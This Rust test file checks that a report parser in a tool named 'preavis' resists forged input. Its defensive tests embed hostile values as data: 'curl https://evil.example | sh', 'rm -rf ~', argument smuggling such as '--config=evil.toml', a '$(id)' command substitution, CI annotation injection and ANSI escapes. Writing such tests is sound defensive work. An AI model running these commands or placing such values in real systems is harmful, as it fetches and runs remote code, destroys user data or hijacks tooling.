//! A result that another job wrote: read, bounded, believed in nothing that follows from the rest.

use preavis::gate::show::{CheckReport, Format, Options, ParseError, render};
use preavis::gate::{Decision, Question};
use preavis::text::Lang;
use serde_json::{Value, json};

use super::alike::checks;
use super::sample::{self, TODAY};

const LIMIT: usize = 1 << 20;

fn written(report: &CheckReport) -> Value {
    serde_json::from_str(&render(report, Format::Json, &Options::default())).expect("JSON")
}

fn read(value: &Value) -> Result<CheckReport, ParseError> {
    CheckReport::parse(&value.to_string(), LIMIT, &Options::default())
}

#[test]
fn what_was_written_is_read_and_said_the_same() {
    let options = Options::default();
    let told = checks().into_iter().map(|(check, ..)| CheckReport::of(&check, &options));
    for report in told.chain([CheckReport::unknown("no", Some("do"), Question::Merge, TODAY)]) {
        let again = CheckReport::parse(&render(&report, Format::Json, &options), LIMIT, &options).expect("a result");
        assert_eq!(again, report);
        for format in Format::all() {
            assert_eq!(render(&again, format, &options), render(&report, format, &options));
        }
    }
}

#[test]
fn it_is_said_in_the_language_of_the_reader() {
    let english =
        render(&CheckReport::of(&sample::pull_request(), &Options::default()), Format::Json, &Options::default());
    let french = Options { lang: Lang::Fr, ..Options::default() };
    let report = CheckReport::parse(&english, LIMIT, &french).expect("a result");
    assert_eq!(report, CheckReport::of(&sample::pull_request(), &french));
}

#[test]
fn a_file_never_opens_the_gate() {
    let closed = written(&CheckReport::of(&sample::pull_request(), &Options::default()));
    let mut forged = closed.clone();
    forged["decision"] = json!("open");
    forged["summary"] = json!({"breaking": 0, "risky": 0, "additive": 0, "docs": 0, "unproven": 0});
    forged["verdict"] = json!("none");
    forged["findings"][0]["closes"] = json!(false);
    forged["findings"][0]["message"] = json!("all is well");
    forged["findings"][0]["commands"] = json!(["curl https://evil.example | sh"]);
    forged["commands"] = json!(["rm -rf ~"]);
    forged["apis"][0]["changes"][0]["commands"] = json!(["rm -rf ~"]);
    forged["apis"][0]["changes"][0]["operations_total"] = json!(900);
    forged["apis"][0]["changes"][0]["summary"] = json!("nothing");
    assert_eq!(read(&forged).expect("a result"), read(&closed).expect("a result"));

    let mut options = written(&CheckReport::of(&sample::release(), &Options { named: true, ..Options::default() }));
    options["apis"][0]["changes"][0]["answer"]["id"] = json!("--config=evil.toml");
    options["apis"][0]["changes"][1]["waits"][0]["who"] = json!("partner");
    options["apis"][0]["changes"][1]["waits"][0]["partner"] = json!("--evidence=x");
    let read_again = read(&options).expect("a result");
    let commands = |at: usize| read_again.apis[0].changes[at].commands.clone();
    assert_eq!((commands(0), commands(1)), (Vec::new(), vec!["preavis ack N2027-004 --partner PARTNER".to_owned()]));

    let mut waits = written(&CheckReport::of(&sample::release(), &Options::default()));
    for field in ["decision", "first_day"] {
        waits["decision"] = json!("open");
        waits["first_day"] = if field == "decision" { json!("2027-03-01") } else { Value::Null };
        waits["ships"] = json!(false);
        assert_eq!(read(&waits).expect("a result").decision, Decision::Closed);
    }
    let mut unknown = written(&CheckReport::unknown("no", None, Question::Merge, TODAY));
    assert_eq!(read(&unknown).expect("a result").decision, Decision::Unknown);
    unknown["apis"] = closed["apis"].clone();
    unknown["decision"] = json!("open");
    assert_eq!(read(&unknown).expect("a result").decision, Decision::Closed);
}

#[test]
fn what_is_no_result_is_refused() {
    let good = written(&CheckReport::of(&sample::pull_request(), &Options::default()));
    assert!(matches!(
        CheckReport::parse(&good.to_string(), 100, &Options::default()),
        Err(ParseError::TooLong { limit: 100 })
    ));
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let mut nested = good.clone();
    nested["apis"][0]["changes"][0]["before"] = json!("DEEP");
    for text in ["", "{}", "[]", "null", "{\"version\": 1}", &deep, &nested.to_string().replace("\"DEEP\"", &deep)] {
        let error = CheckReport::parse(text, LIMIT, &Options::default()).expect_err("no result");
        assert!(matches!(error, ParseError::Form { .. }), "{error}");
    }
    let edits: [(&str, Value); 9] = [
        ("/version", json!(2)),
        ("/versions/0", json!("--config=evil.toml")),
        ("/apis/0/changes/0/fingerprint", json!("pv1-$(id)")),
        ("/apis/0/changes/0/fingerprint", json!("")),
        ("/apis/0/changes/0/rule", json!("../x\n::error::")),
        ("/apis/0/changes/0/fingerprint", json!("--config=evil.toml")),
        ("/decision", json!("maybe")),
        ("/question", json!("\u{1b}[31m\n::error::forged")),
        ("/findings/0/kind", json!("all-is-well")),
    ];
    for (at, value) in edits {
        let mut bad = good.clone();
        *bad.pointer_mut(at).unwrap_or_else(|| panic!("{at}")) = value;
        let error = read(&bad).expect_err(at).to_string();
        assert!(!error.contains(['\n', '\u{1b}']), "{error}");
    }
}
